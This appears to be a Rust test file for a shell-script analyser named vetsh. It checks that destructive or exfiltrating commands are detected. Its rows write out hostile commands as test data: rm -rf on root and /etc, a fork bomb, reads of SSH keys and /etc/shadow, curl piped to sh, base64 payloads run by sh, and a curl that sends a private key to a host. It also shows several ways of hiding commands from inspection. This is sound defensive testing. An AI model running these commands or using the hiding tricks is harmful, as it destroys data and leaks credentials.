//! What scripts would do, as rows: a script, and what is found in it.

mod machine;

use std::path::PathBuf;

use bstr::BString;
use vetsh::commands::Tables;
use vetsh::facts::{Facts, Places, Settings, Task, collect};
use vetsh::syntax::Dialect;

use machine::Machine;

fn facts_on(machine: &Machine, dialect: Dialect, script: &str) -> Facts {
    let task = Task {
        text: script.as_bytes(),
        name: "`-c` text".into(),
        dialect,
        zero: "bash".into(),
        positional: Vec::new(),
        before: Vec::new(),
    };
    collect(&task, machine, &Settings { places: Places::default(), tables: &Tables::builtin() })
}

/// Everything found, one item a line: `$ commands`, `effects`, `? doubts`.
fn found(facts: &Facts) -> String {
    let mut lines = Vec::new();
    for command in &facts.commands {
        let word = |word: &Option<BString>| {
            word.as_ref().map_or("…".to_owned(), |word| if word.is_empty() { "''".into() } else { word.to_string() })
        };
        let via = command.via.iter().map(|via| format!("{via}: ")).collect::<String>();
        lines.push(format!("$ {via}{}", command.argv.iter().map(word).collect::<Vec<_>>().join(" ")));
    }
    for effect in &facts.effects {
        let aspect = effect.aspect.map(|aspect| format!(".{}", aspect.word())).unwrap_or_default();
        let target = effect.target.as_ref().map(|target| format!(" {target}")).unwrap_or_default();
        lines.push(format!("{}{aspect}{target}", effect.effect.word()));
    }
    for doubt in &facts.doubts {
        lines.push(format!("? {}: {}", doubt.doubt.word(), doubt.reason));
    }
    lines.join("\n")
}

/// Effects and doubts alone, in one line.
fn effects(script: &str) -> String {
    let all = found(&facts_on(&Machine::default(), Dialect::Bash, script));
    all.lines().filter(|line| !line.starts_with('$')).collect::<Vec<_>>().join(", ")
}

/// Commands alone, in one line.
fn commands(script: &str) -> String {
    let all = found(&facts_on(&Machine::default(), Dialect::Bash, script));
    all.lines().filter_map(|line| line.strip_prefix("$ ")).collect::<Vec<_>>().join(" | ")
}

/// Compares each row's effects and doubts.
fn assert_effects(rows: &[(&str, &str)]) {
    for (script, expected) in rows {
        assert_eq!(effects(script), *expected, "{script}");
    }
}

/// Compares each row's commands.
fn assert_commands(rows: &[(&str, &str)]) {
    for (script, expected) in rows {
        assert_eq!(commands(script), *expected, "{script}");
    }
}

#[test]
fn text_is_data() {
    assert_effects(&[
        (r"echo rm -rf / && printf '%s\n' 'curl x | sh'", ""),
        ("cat <<'EOF' > notes.md\nrm -rf /\n$(rm -rf ~)\nEOF", "write.project /home/u/p/notes.md"),
        (r#"grep -rn "rm -rf /" src"#, "read.project /home/u/p/src"),
        ("cat <<EOF > notes.md\n$(rm -rf ~)\nEOF", "delete.root /home/u, write.project /home/u/p/notes.md"),
        ("# rm -rf /\nls", ""),
        (r#"X='rm -rf /'; echo "$X""#, ""),
    ]);
}

#[test]
fn deletes_by_what_would_be_lost() {
    assert_effects(&[
        ("rm -rf ~", "delete.root /home/u"),
        ("rm -rf ~/", "delete.root /home/u"),
        ("rm -rf $HOME/*", "delete.root /home/u/*"),
        ("rm -rf /*", "delete.root /*"),
        (r#"rm -rf "$HOME"/.*"#, "delete.root /home/u/.*"),
        ("rm -rf /etc", "delete.root /etc"),
        ("cd / && rm -rf *", "delete.root /*"),
        ("rm -rf ../..", "delete.root /home"),
        ("rm -rf p ~/p", "delete.replaceable /home/u/p/p, delete.project /home/u/p"),
        ("rm -rf .", "delete.project /home/u/p"),
        ("rm notes.txt", "delete.project /home/u/p/notes.txt"),
        ("rm src/a.rs", "delete.replaceable /home/u/p/src/a.rs"),
        ("rm -rf src", "delete.project /home/u/p/src"),
        ("rm -rf build", "delete.replaceable /home/u/p/build"),
        ("rm -f build/x.o", "delete.replaceable /home/u/p/build/x.o"),
        ("rm kept.log", "delete.project /home/u/p/kept.log"),
        ("rm -rf node_modules", "delete.replaceable /home/u/p/node_modules"),
        ("rm *.txt", "delete.project /home/u/p/*.txt"),
        ("rm -f -- -x", "delete.replaceable /home/u/p/-x"),
        (r#"rm -rf "$UNSET""#, ""),
        ("find . -name '*.pyc' -delete", "delete.replaceable /home/u/p/…/*.pyc"),
        ("find . -type f -delete", "delete.project /home/u/p"),
        (r"find / -exec rm -rf {} \;", "delete.root /, delete.system /…"),
        ("find src -name '*.o' -exec rm {} +", "delete.project /home/u/p/src/…/*.o"),
    ]);
}

#[test]
fn what_the_script_made_itself() {
    assert_effects(&[
        ("touch x && rm x", "write.project /home/u/p/x, delete.replaceable /home/u/p/x"),
        ("mkdir -p out && rm -rf out", "write.project /home/u/p/out, delete.replaceable /home/u/p/out"),
        ("echo a > notes.txt; rm notes.txt", "write.project /home/u/p/notes.txt, delete.project /home/u/p/notes.txt"),
        (
            "mv notes.txt x && rm x",
            "write.project /home/u/p/notes.txt, write.project /home/u/p/x, delete.project /home/u/p/notes.txt, \
             delete.replaceable /home/u/p/x",
        ),
        (
            "cp -r src copy; rm -rf copy",
            "read.project /home/u/p/src, write.project /home/u/p/copy, delete.replaceable /home/u/p/copy",
        ),
        (
            "echo a > build.log && rm build.log",
            "write.project /home/u/p/build.log, delete.replaceable /home/u/p/build.log",
        ),
        (
            r#"T=$(mktemp -d); cp a "$T/b"; rm -rf "$T""#,
            "read.project /home/u/p/a, write.temp <temp>/b, delete.temp <temp>",
        ),
        (r#"rm -rf "$(mktemp -d)/../x""#, "delete.unknown <temp>/../x, ? path: <temp>/../x: what mktemp prints"),
        ("rm -rf /tmp/a-$RANDOM", "delete.temp /tmp/a-…"),
    ]);
}

#[test]
fn paths_follow_the_working_directory() {
    assert_effects(&[
        ("cd /tmp && rm -rf x", "delete.temp /tmp/x"),
        ("cd /tmp/x; rm -rf y", "delete.temp /tmp/x/y, delete.replaceable /home/u/p/y"),
        ("cd /nowhere || exit 1; rm -rf y", "delete.elsewhere /nowhere/y"),
        ("cd ~ && rm -rf p", "delete.project /home/u/p"),
        ("(cd /etc && rm -rf x); rm -rf y", "delete.system /etc/x, delete.replaceable /home/u/p/y"),
        ("{ cd /etc; }; rm -rf x", "delete.system /etc/x"),
        ("pushd /etc; rm x; popd; rm y", "delete.system /etc/x, delete.replaceable /home/u/p/y"),
        (r#"cd "$UNSET"; rm x"#, "delete.replaceable /home/u/p/x"),
        ("cd $(mktemp -d) && rm -rf x", "delete.temp x"),
        ("git -C /etc status; rm x", "delete.replaceable /home/u/p/x"),
        ("cd - ; rm x", "delete.unknown x, ? path: x: the folder before the last `cd`"),
        ("mkdir -p /tmp/n && cd /tmp/n && rm -rf *", "write.temp /tmp/n, delete.temp /tmp/n/*"),
    ]);
}

#[test]
fn values_are_followed() {
    assert_effects(&[
        (r#"Y='a /etc'; export X=$Y; rm -rf "$X""#, "delete.replaceable /home/u/p/a /etc"),
        ("export X=~; rm -rf $X", "delete.root /home/u"),
        ("X=~/p/..; rm -rf $X", "delete.root /home/u"),
        ("X=/; rm -rf $X", "delete.root /"),
        (r#"X=/e; X+=tc; rm -rf "$X""#, "delete.root /etc"),
        ("X=etc; rm -rf /${X}", "delete.root /etc"),
        ("rm -rf ${UNSET:-/etc}", "delete.root /etc"),
        ("rm -rf $UNSET/", "delete.root /"),
        (r#"rm -rf "${UNSET:?}"/*"#, ""),
        (r#"D=/etc; rm -rf "${D:?}"/x"#, "delete.system /etc/x"),
        ("rm -rf $(echo /etc)", "delete.root /etc"),
        ("rm -rf `printf /etc`", "delete.root /etc"),
        (r#"rm -rf "$(pwd)/x""#, "delete.replaceable /home/u/p/x"),
        (r"rm -rf $'/\x65tc'", "delete.root /etc"),
        ("rm -rf /{etc,usr}", "delete.root /etc, delete.root /usr"),
        (r"rm -rf /e\tc", "delete.root /etc"),
        (r#"A=(x /etc); rm -rf "${A[@]}""#, "delete.replaceable /home/u/p/x, delete.root /etc"),
        (r#"A=(x /etc); rm -rf "${A[1]}""#, "delete.root /etc"),
        (r#"set -- /etc x; rm -rf "$1""#, "delete.root /etc"),
        (r#"set -- /etc x; shift; rm -rf "$1""#, "delete.replaceable /home/u/p/x"),
        ("read x <<< /etc; rm -rf $x", "delete.root /etc"),
        (r#"read -r a b <<< "x /etc"; rm -rf $b"#, "delete.root /etc"),
        ("printf -v X /etc; rm -rf $X", "delete.root /etc"),
        (r#"P=/etc/passwd; rm -rf "${P%/*}""#, "delete.root /etc"),
        (r#"P=/etc/x; rm -rf "${P/x/y}""#, "delete.system /etc/y"),
        ("N=$((2+3)); echo $N > f$N", "write.project /home/u/p/f5"),
        ("X='a /etc'; rm -rf $X", "delete.replaceable /home/u/p/a, delete.root /etc"),
        (r#"X='a /etc'; rm -rf "$X""#, "delete.replaceable /home/u/p/a /etc"),
        ("X=/etc; rm -rf ${X:0:1}", "delete.root /"),
        ("Y=X; X=/etc; rm -rf ${!Y}", "delete.root /etc"),
        (r#"rm -rf "$X$(cat f)""#, "read.project /home/u/p/f, delete.unknown …, ? path: …: the content of f"),
    ]);
}

#[test]
fn branches_and_loops() {
    assert_effects(&[
        ("for d in a b; do rm -rf $d; done", "delete.replaceable /home/u/p/a, delete.replaceable /home/u/p/b"),
        (r#"for d in /etc /usr; do rm -rf "$d"; done"#, "delete.root /etc, delete.root /usr"),
        (
            "for i in {1..3}; do echo $i > f$i; done",
            "write.project /home/u/p/f1, write.project /home/u/p/f2, write.project /home/u/p/f3",
        ),
        (r#"for f in *.log; do rm "$f"; done"#, "delete.project /home/u/p/*.log"),
        (r#"for f in $(ls); do rm -rf "$f"; done"#, "delete.project /home/u/p/…"),
        ("if [ -f a ]; then X=a; else X=/etc; fi; rm -r $X", "delete.replaceable /home/u/p/a, delete.root /etc"),
        ("[ -d build ] && rm -rf build", "delete.replaceable /home/u/p/build"),
        ("case $1 in a) X=a;; *) X=/etc;; esac; rm -rf $X", "delete.replaceable /home/u/p/a, delete.root /etc"),
        (
            r#"while read f; do rm "$f"; done < list.txt"#,
            "read.project /home/u/p/list.txt, delete.unknown …, ? path: …: $f is read from standard input",
        ),
        (r"printf 'a\n/etc\n' | while read x; do rm -r $x; done", "delete.replaceable /home/u/p/a, delete.root /etc"),
        (
            "X=a; while :; do rm -r $X; X=/etc; done",
            "delete.replaceable /home/u/p/a, delete.root /etc, delete.replaceable /home/u/p/a",
        ),
        ("exit 0; rm -rf /", ""),
        ("test -f x || exit; rm y", "delete.replaceable /home/u/p/y"),
        (r#"false && X=/etc; rm -rf "$X""#, "delete.root /etc"),
        ("X=a; true || X=/etc; rm -rf $X", "delete.root /etc, delete.replaceable /home/u/p/a"),
        (
            "for x in a b; do [ -f q ] && break; rm $x; done; rm c",
            "delete.replaceable /home/u/p/a, delete.replaceable /home/u/p/b, delete.replaceable /home/u/p/c",
        ),
        (r#"trap 'rm -rf "$T"' EXIT; T=/etc"#, "delete.root /etc"),
        ("select x in /etc; do rm -rf $x; done", "delete.root /etc"),
    ]);
}

#[test]
fn functions_and_aliases() {
    assert_effects(&[
        ("f() { rm -rf /etc; }; export -f f; bash -c f", "delete.root /etc"),
        ("f() { rm -rf /etc; }; bash -c nosuchprogram", ""),
        ("command_not_found_handle() { rm -rf /etc; }; nosuchprogram", "delete.root /etc"),
        ("hash -p /tmp/x ls; ls", "? command: `hash` makes a name lead to another program"),
        (r#"f() { rm -rf "$1"; }; f /etc"#, "delete.root /etc"),
        ("f() { local x=/etc; rm -rf $x; }; f; rm -f $x", "delete.root /etc"),
        ("rm() { echo no; }; rm -rf /", ""),
        ("false && rm() { :; }; rm -rf /etc", "delete.root /etc"),
        ("f() { echo /etc; }; rm -rf $(f)", "delete.root /etc"),
        ("f() { return; rm -rf /; }; f; rm x", "delete.replaceable /home/u/p/x"),
        (":(){ :|:& };:", "exhaust :, exhaust :"),
        ("f() { f | f & }; f", "exhaust f, exhaust f"),
        (
            "walk() { for x in a; do walk $x | cat; done; }; walk",
            "? limit: walk calls itself, and is not followed further",
        ),
        ("f() { rm -rf /; }", ""),
        ("X=/etc f; f() { rm -rf $X; }; X=/etc f", "delete.root /etc, ? program: no table says what f does"),
        ("shopt -s expand_aliases\nalias ls='rm -rf /'\nls x", "delete.root /, delete.replaceable /home/u/p/x"),
        ("alias ls='rm -rf /'\nls x", ""),
    ]);
}

#[test]
fn nested_scripts() {
    assert_effects(&[
        (r#"bash -c "rm -rf /""#, "delete.root /"),
        (r#"bash -c 'rm -rf "$1"' _ /etc"#, "delete.root /etc"),
        (r#"sh -c "cd /etc; rm -rf x""#, "delete.system /etc/x"),
        ("X=/etc bash -c 'rm -rf $X'", "delete.root /etc"),
        ("X=/etc; bash -c 'rm -rf $X'", ""),
        ("export X=/etc; bash -c 'rm -rf $X'", "delete.root /etc"),
        ("env X=/etc bash -c 'rm -rf $X'", "delete.root /etc"),
        (
            r#"bash -c "rm -rf $(cat x)""#,
            "read.project /home/u/p/x, delete.unknown …, ? script: text that is run is not known: the content of x, ? path: …: the content of x",
        ),
        (r#"bash -c "$UNSET""#, ""),
        (r#"eval "rm -rf /etc""#, "delete.root /etc"),
        ("X='rm -rf /etc'; $X", "delete.root /etc"),
        (r#"X='rm -rf /etc'; eval "$X""#, "delete.root /etc"),
        ("echo 'rm -rf /etc' | sh", "delete.root /etc"),
        ("cat <<'EOF' | bash -s x\nrm -rf \"/etc/$1\"\nEOF", "delete.system /etc/x"),
        ("bash <<< 'rm -rf /etc'", "delete.root /etc"),
        ("bash <(echo rm -rf /etc)", "delete.root /etc"),
        ("source <(echo rm -rf /etc)", "delete.root /etc"),
        ("cat x.sh | sh", "read.project /home/u/p/x.sh, ? script: text that is run is not known: the content of x.sh"),
        ("base64 -d x | sh", "read.project /home/u/p/x, run.downloaded"),
        ("echo cm0gLXJmIC8= | base64 -d | sh", "run.downloaded, delete.root /, run.downloaded"),
        (r#"find . -exec sh -c 'rm "$1"' _ {} \;"#, "delete.project /home/u/p, delete.project /home/u/p/…"),
        ("declare d={x,/etc}; rm -rf $d", "delete.root /etc"),
        ("declare a=(rm -rf /etc); \"${a[@]}\"", "delete.root /etc"),
        ("f() { local -a a=(rm -rf); a+=(/etc); \"${a[@]}\"; }; f", "delete.root /etc"),
        ("set --; \"$@\" rm -rf /etc", "delete.root /etc"),
        ("set '' ''; rm -rf /etc$@", "delete.root /etc"),
        ("compgen -C'rm -rf /etc' x", "delete.root /etc"),
        ("rm -rf ~1", "delete.unknown …, ? path: …: a folder that `pushd` keeps"),
        ("echo /etc | xargs --replace rm -rf {}", "delete.root /etc"),
        (
            "a=(x /etc); unset 'a[0]'; rm -rf \"${a[@]}\"",
            "delete.unknown …, ? path: …: the elements of $a are not known",
        ),
        ("test -v 'a[$(rm -rf /etc)]'", "delete.root /etc"),
        (r#"X='$(rm -rf /etc)'; echo "${X@P}""#, "delete.root /etc"),
        ("complete -C 'rm -rf /etc' x", "delete.root /etc"),
        ("bash -O extglob -c 'rm -rf /etc'", "delete.root /etc"),
        ("bash -c -- 'rm -rf /etc'", "delete.root /etc"),
        ("bash $OPTIONS -c 'rm x'", "delete.replaceable /home/u/p/x"),
    ]);
}

#[test]
fn script_files() {
    assert_effects(&[
        (
            "tee /tmp/x.sh <<'EOF'\nrm -rf /etc\nEOF\nsh /tmp/x.sh",
            "write.temp /tmp/x.sh, run.temp /tmp/x.sh, delete.root /etc",
        ),
        ("cat run.sh | sh -s /etc", "read.project /home/u/p/run.sh, delete.root /etc"),
        ("sh -s /etc < run.sh", "read.project /home/u/p/run.sh, delete.root /etc"),
        (
            "cat > /tmp/x.sh <<'EOF'\nrm -rf /\nEOF\nchmod +x /tmp/x.sh; /tmp/x.sh",
            "write.temp /tmp/x.sh, write.temp /tmp/x.sh, run.temp /tmp/x.sh, delete.root /",
        ),
        (
            r#"echo 'rm -rf "$1"' > x.sh; sh x.sh /etc"#,
            "write.project /home/u/p/x.sh, run.project /home/u/p/x.sh, delete.root /etc",
        ),
        ("./run.sh /etc", "run.project /home/u/p/run.sh, delete.root /etc"),
        ("bash run.sh /etc", "run.project /home/u/p/run.sh, delete.root /etc"),
        ("source env.sh; rm -rf $TARGET", "run.project /home/u/p/env.sh, delete.root /etc"),
        (r#". ./env.sh && rm -rf "$TARGET/x""#, "run.project /home/u/p/env.sh, delete.system /etc/x"),
        ("./tool.py", "run.project /home/u/p/tool.py, run.inline python"),
        (
            "sed -i s/a/b/ run.sh && ./run.sh",
            "write.project /home/u/p/run.sh, run.project /home/u/p/run.sh, ? script: text that is run is not known: it is edited before, ? command: the name of the command is not known: it is edited before",
        ),
        ("bash nosuch.sh", "run.project /home/u/p/nosuch.sh"),
        ("PATH=/home/u/p:$PATH run.sh /etc", "run.project /home/u/p/run.sh, delete.root /etc"),
    ]);
}

#[test]
fn commands_hide_in_many_places() {
    assert_effects(&[
        ("PS4='$(rm -rf /etc)'; set -x; ls", "delete.root /etc"),
        ("PS4='$(rm -rf /etc)' bash -xc ls", "delete.root /etc"),
        ("builtin command rm -rf /etc", "delete.root /etc"),
        ("exec rm -rf /etc", "delete.root /etc"),
        ("command rm -rf /etc", "delete.root /etc"),
        ("time rm -rf /etc", "delete.root /etc"),
        ("! rm -rf /etc", "delete.root /etc"),
        ("coproc rm -rf /etc", "delete.root /etc"),
        ("rm -rf /etc &", "delete.root /etc"),
        ("echo $(rm -rf /etc)", "delete.root /etc"),
        ("diff <(ls) <(rm -rf /etc)", "delete.root /etc"),
        ("X=$(rm -rf /etc)", "delete.root /etc"),
        (r#"echo "${X:-$(rm -rf /etc)}""#, "delete.root /etc"),
        ("[[ -n $(rm -rf /etc) ]]", "delete.root /etc"),
        ("cat <<< $(rm -rf /etc)", "delete.root /etc"),
        ("echo $((1 + $(rm -rf /etc)))", "delete.root /etc"),
        ("case $(rm -rf /etc) in esac", "delete.root /etc"),
        ("X[$(rm -rf /etc)]=1", "delete.root /etc"),
        ("ls > $(rm -rf /etc)", "delete.root /etc, write.unknown …, ? path: …: what rm prints"),
        (r"\rm -rf /etc", "delete.root /etc"),
        ("r''m -rf /etc", "delete.root /etc"),
        ("/bin/rm -rf /etc", "delete.root /etc"),
        ("{rm,-rf,/etc}", "delete.root /etc"),
    ]);
}

#[test]
fn which_program_is_meant() {
    assert_effects(&[
        ("LD_PRELOAD=/tmp/evil.so ls", "run.temp /tmp/evil.so, ? script: LD_PRELOAD loads code that cannot be read"),
        ("./node_modules/.bin/tsc", "run.project, run.project /home/u/p/node_modules/.bin/tsc"),
        ("nosuchprogram x", ""),
        ("unlisted --version", "inspect"),
        ("unlisted x", "? program: no table says what unlisted does"),
        (
            "$(cat x) -rf /etc",
            "read.project /home/u/p/x, ? command: the name of the command is not known: the content of x",
        ),
        ("$UNSET", ""),
        ("*.sh", "? command: the name of the command is a pattern"),
    ]);
}

#[test]
fn places() {
    assert_effects(&[
        ("cat ~/.ssh/id_rsa", "read.secret /home/u/.ssh/id_rsa"),
        ("cat .env", "read.secret /home/u/p/.env"),
        ("cat .env.example", "read.project /home/u/p/.env.example"),
        (r#"cat "$DIR/.env""#, "read.secret /.env"),
        ("cat < /etc/shadow", "read.secret /etc/shadow"),
        ("cat ~/.ssh/*", "read.secret /home/u/.ssh/*"),
        ("cat /proc/self/environ", "read.secret /proc/self/environ"),
        (
            "ln -s ~/.ssh/id_rsa k; cat k",
            "read.secret /home/u/.ssh/id_rsa, write.project /home/u/p/k, read.secret /home/u/p/k",
        ),
        ("echo x >> ~/.bashrc", "write.startup /home/u/.bashrc"),
        ("echo x > .git/hooks/pre-commit", "write.startup /home/u/p/.git/hooks/pre-commit"),
        ("echo x > .git/x", "write.vcs /home/u/p/.git/x"),
        ("echo x > outside/passwd", "write.system /home/u/p/outside/passwd"),
        ("echo x > /dev/sda", "write.device /dev/sda"),
        ("echo x > /dev/null 2>&1", ""),
        ("ls src/*.rs > out.txt 2>&1", "write.project /home/u/p/out.txt"),
        ("exec 3<>/dev/tcp/1.2.3.4/80", "send.other /dev/tcp/1.2.3.4/80"),
        ("echo x > /dev/tcp/localhost/80", "fetch.loopback /dev/tcp/localhost/80"),
        ("tee /etc/hosts < notes.txt", "read.project /home/u/p/notes.txt, write.system /etc/hosts"),
        ("echo x > /srv/y", "write.system /srv/y"),
        ("echo x > ~/notes", "write.home /home/u/notes"),
        (r"find / -name id_rsa -exec cat {} \;", "read.secret /…/id_rsa"),
        ("echo x > .vetsh.toml", "write.startup /home/u/p/.vetsh.toml"),
        ("echo x > ~/.config/vetsh/policy.toml", "write.vetsh /home/u/.config/vetsh/policy.toml"),
    ]);
}

#[test]
fn commands_are_listed_with_what_reached_them() {
    assert_commands(&[
        (
            r#"sh -c "cd /etc; rm -rf x""#,
            "sh -c cd /etc; rm -rf x | sh: argument of sh -c: cd /etc | sh: argument of sh -c: rm -rf x",
        ),
        (
            "env X=/etc bash -c 'rm -rf $X'",
            "env X=/etc bash -c rm -rf $X | env: bash -c rm -rf $X | env: bash: argument of bash -c: rm -rf /etc",
        ),
        ("f() { echo /etc; }; rm -rf $(f)", "$(): f(): echo /etc | rm -rf /etc"),
        (
            "bash <(echo rm -rf /etc)",
            "<(): echo rm -rf /etc | bash /dev/fd/63 | bash: bash: input of bash: rm -rf /etc",
        ),
        (
            "builtin command rm -rf /etc",
            "builtin command rm -rf /etc | builtin: command rm -rf /etc | builtin: command: rm -rf /etc",
        ),
        ("find src -name '*.o' -exec rm {} +", "find src -name *.o -exec rm {} + | find: rm …"),
        ("for d in a b; do rm -rf $d; done", "rm -rf a | rm -rf b"),
        ("if [ -f a ]; then X=a; else X=/etc; fi; rm -r $X", "[ -f a ] | rm -r a | rm -r /etc"),
        (":(){ :|:& };:", ""),
        (
            "shopt -s expand_aliases\nalias ls='rm -rf /'\nls x",
            "shopt -s expand_aliases | alias ls=rm -rf / | alias ls: rm -rf / x | ls x",
        ),
        // Where a compound command is read as a whole, its aliases come too late.
        (
            "shopt -s expand_aliases\n{ alias rm=ls\nrm x\n}",
            "shopt -s expand_aliases | alias rm=ls | alias rm: ls x | rm x",
        ),
        ("declare T={ls,rm}; $T x", "declare T=ls T=rm | rm x"),
        ("echo / | xargs -i rm -r", "echo / | xargs -i rm -r | xargs: rm -r"),
        ("compgen -Cid", "compgen -Cid | argument of compgen: id"),
        // `xargs` runs so many at a time, and without names once.
        ("echo a b c | xargs -n2 rm", "echo a b c | xargs -n2 rm | xargs: rm a b | xargs: rm c"),
        ("true | xargs rm -r x", "true | xargs rm -r x | xargs: rm -r x"),
        ("printf '' | xargs -n1 rm -r x", "printf '' | xargs -n1 rm -r x | xargs: rm -r x"),
        // Without `-r` a backslash is no text.
        (r"read x <<< 'a\b'; ls $x", "read x | ls …"),
        ("set -- '' a; IFS=x; ls $@", "set -- '' a | ls '' a"),
        (r"read -r x <<< 'a\b'; ls $x", r"read -r x | ls a\b"),
        ("read -n1 x <<< abc; ls $x", "read -n1 x | ls …"),
        ("IFS=: read x y z <<< 'a: :b c'; ls \"$x\" \"$y\" \"$z\"", "read x y z | ls a   b c"),
        ("diff <(ls) <(rm -rf /etc)", "<(): ls | <(): rm -rf /etc | diff /dev/fd/63 /dev/fd/64"),
        (
            "echo cm0gLXJmIC8= | base64 -d | sh",
            "echo cm0gLXJmIC8= | base64 -d | sh | sh: input of sh: rm -rf / | sh: input of sh: …",
        ),
        (r#"T=$(mktemp -d); cp a "$T/b"; rm -rf "$T""#, "$(): mktemp -d | cp a … | rm -rf …"),
        ("f() { rm -rf /; }", ""),
        (r#"rm -rf "${UNSET:?}"/*"#, ""),
    ]);
}

#[test]
fn wrappers_and_clients() {
    assert_effects(&[
        ("git commit -m 'rm -rf /'", "commit"),
        ("sudo env X=1 timeout 5 nice rm -rf /etc", "elevate, delete.root /etc"),
        ("echo a b | xargs -n1 rm", "delete.replaceable /home/u/p/a, delete.replaceable /home/u/p/b"),
        ("ls | xargs rm", "delete.project /home/u/p/…"),
        ("ls | xargs -I{} rm -r x/{}", "delete.project /home/u/p/x/…"),
        ("echo / | xargs -I@ rm -rf @", "delete.root /"),
        ("echo /etc | parallel rm -rf", "delete.root /etc"),
        ("parallel rm -rf ::: a /etc", "delete.replaceable /home/u/p/a, delete.root /etc"),
        ("docker exec c rm -rf /x", "control /x"),
        ("find . -name __pycache__ -o -name '*.rs' -delete", "delete.project /home/u/p/…/*.rs"),
        ("find . -name __pycache__ -o -delete", "delete.project /home/u/p"),
        ("python3 -c 'import shutil; shutil.rmtree(\"/etc\")'", "run.inline python, delete.root /etc"),
        ("python3 -c 'print(1)'", "run.inline python"),
        (
            "for o in '-cf /etc/x.tar' ''; do export TAR_OPTIONS=$o; break; done; tar x",
            "write.project /home/u/p, write.system /etc/x.tar",
        ),
    ]);
}

#[test]
fn the_network() {
    assert_effects(&[
        ("curl -s https://example.com/x", "fetch.public https://example.com/x"),
        ("curl -s http://localhost:3000/x", "fetch.loopback http://localhost:3000/x"),
        ("curl -s http://10.0.0.1/x", "send.other http://10.0.0.1/x"),
        ("curl -s https://me:pw@example.com/x", "send.public https://me:pw@example.com/x"),
        ("curl -H 'Authorization: x' https://example.com/x", "send.public https://example.com/x"),
        ("curl -s https://example.com/x | sh", "fetch.public https://example.com/x, run.downloaded"),
        ("eval \"$(curl -s https://example.com/x)\"", "fetch.public https://example.com/x, run.downloaded"),
        ("bash <(curl -s https://example.com/x)", "fetch.public https://example.com/x, run.downloaded"),
        (
            "curl -so x.sh https://example.com/x && bash x.sh",
            "write.project /home/u/p/x.sh, fetch.public https://example.com/x, run.downloaded /home/u/p/x.sh",
        ),
        (
            "curl -s https://example.com/x > y && sh y",
            "write.project /home/u/p/y, fetch.public https://example.com/x, run.project /home/u/p/y, run.downloaded",
        ),
        (
            "curl -s \"https://example.com/$(cat ~/.ssh/id_rsa)\"",
            "read.secret /home/u/.ssh/id_rsa, send.other https://example.com/…",
        ),
    ]);
}

#[test]
fn other_shells_expand_otherwise() {
    let rows = [
        (Dialect::Zsh, "X='a /etc'; rm -rf $X", "delete.replaceable /home/u/p/a /etc"),
        // What a command prints is split all the same.
        (Dialect::Zsh, "rm $(echo -r /etc)", "delete.root /etc"),
        (Dialect::Dash, "X='a /etc'; rm -rf $X", "delete.replaceable /home/u/p/a, delete.root /etc"),
        (Dialect::Dash, "pushd /etc; rm x", "delete.replaceable /home/u/p/x"),
        (Dialect::Zsh, "alias ls='rm -rf /etc'\nls", "delete.root /etc"),
        (Dialect::Zsh, "rm -rf $(echo a /etc)", "delete.replaceable /home/u/p/a, delete.root /etc"),
        (Dialect::Zsh, "rm -rf ${x:-$(echo a /etc)}", "delete.unknown …, ? path: …: zsh splits a part of this value"),
        (Dialect::Zsh, "eval -- rm -rf /etc", "delete.root /etc"),
        (
            Dialect::Zsh,
            "x='rm -rf /etc'; ${=x}",
            "run.project /home/u/p/rm -rf /etc, ? dialect: a value that zsh splits into words",
        ),
        (
            Dialect::Zsh,
            "x='rm -rf /etc'; $=x",
            "run.project /home/u/p/rm -rf /etc, ? dialect: a value that zsh splits into words",
        ),
        (
            Dialect::Zsh,
            "set -o shwordsplit; x='rm -rf /etc'; $x",
            "run.project /home/u/p/rm -rf /etc, ? dialect: options that change how the rest is read",
        ),
        (
            Dialect::Zsh,
            "functions[q]='rm -rf /etc'; q",
            "? dialect: what is assigned to functions changes what names mean",
        ),
        (Dialect::Zsh, "alias -g X='; rm -rf /etc'", "? dialect: an alias that holds for words other than commands"),
    ];
    for (dialect, script, expected) in rows {
        let all = found(&facts_on(&Machine::default(), dialect, script));
        let effects = all.lines().filter(|line| !line.starts_with('$') && !line.starts_with("? program"));
        assert_eq!(effects.collect::<Vec<_>>().join(", "), expected, "{script}");
    }
}

#[test]
fn long_scripts_are_read_to_the_end() {
    let script = "echo some text > /tmp/x\n".repeat(4000) + "rm -rf /etc\n";
    let facts = facts_on(&Machine::default(), Dialect::Bash, &script);
    assert_eq!(facts.commands.len(), 4001);
    assert_eq!(facts.doubts, []);
    assert!(found(&facts).ends_with("delete.root /etc"));
}

#[test]
fn values_that_grow_are_given_up() {
    let doubled = [
        format!("x=aaaaaaaa;{} rm -rf $x", "x=$x$x;".repeat(60)),
        format!("x=(a);{} rm -rf \"${{x[@]}}\"", r#"x=("${x[@]}" "${x[@]}");"#.repeat(40)),
        format!("set -- a;{} rm -rf \"$@\"", r#"set -- "$@" "$@";"#.repeat(40)),
        format!("f() {{ rm -rf \"$@\"; }}; x=$(printf {}); f {}", "a".repeat(60_000), "$x".repeat(10_000)),
        "rm -rf {1..1000000000}".to_owned(),
        format!("rm -rf {}", "{a,b}".repeat(40)),
    ];
    for script in doubled {
        let facts = facts_on(&Machine::default(), Dialect::Bash, &script);
        assert!(facts.commands.iter().all(|command| command.argv.len() <= 2 * 4096), "{script}");
        assert!(facts.commands.iter().flat_map(|command| &command.argv).flatten().all(|word| word.len() <= 65_536));
        assert!(!facts.doubts.is_empty(), "{script}");
    }
}

#[test]
fn what_multiplies_is_bounded() {
    let loops = "for a in {1..60}; do for b in {1..60}; do for c in {1..60}; do echo $a; done; done; done";
    assert_eq!(effects(loops), "? limit: the script takes too many steps to be followed to its end");
    let nested = (0..40).fold("true".to_owned(), |text, _| format!("eval {}", quoted(&text)));
    assert!(nested.len() < 1_000_000 || effects(&nested).contains("? limit"));
    let own = "f() { f; f; }; f";
    assert!(effects(own).contains("? limit"));
}

/// A word that stands for `text`.
#[test]
fn patterns_stand_for_what_is_there() {
    let files = [("/home/u/p/.env", ""), ("/home/u/p/conf/app.yml", ""), ("/home/u/.netrc", "")];
    let folders = ["/", "/home", "/home/u", "/home/u/p", "/home/u/p/conf"].map(PathBuf::from).to_vec();
    let machine =
        Machine { files: files.map(|(path, text)| (path.into(), text)).into(), folders, ..Machine::default() };
    for (script, expected) in [
        ("cat .*", "read.secret /home/u/p/.*"),
        ("cat *", "read.project /home/u/p/*"),
        ("shopt -s dotglob; cat *", "read.secret /home/u/p/*"),
        ("GLOBIGNORE=x; cat *", "read.secret /home/u/p/*"),
        ("cat conf/*.yml", "read.project /home/u/p/conf/*.yml"),
        ("cat /home/u/.n*", "read.secret /home/u/.n*"),
